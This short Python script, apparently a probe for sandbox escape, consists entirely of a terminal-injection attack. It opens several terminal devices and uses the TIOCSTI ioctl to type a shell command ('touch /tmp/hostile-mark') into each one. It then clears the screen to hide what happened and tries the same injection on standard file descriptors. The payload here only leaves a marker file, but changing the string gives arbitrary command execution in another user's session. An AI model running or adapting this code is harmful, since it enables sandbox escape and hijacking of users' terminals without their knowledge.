import fcntl, os, termios
for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/pts/1", "/dev/tty0", "/proc/self/fd/0"):
    try:
        terminal = os.open(path, os.O_RDWR)
        for character in b"touch /tmp/hostile-mark\n":
            fcntl.ioctl(terminal, termios.TIOCSTI, bytes([character]))
        os.write(terminal, b"\x1b[2J")
    except OSError:
        pass
for descriptor in (0, 1, 2, 3):
    try:
        fcntl.ioctl(descriptor, termios.TIOCSTI, b"x")
    except OSError:
        pass
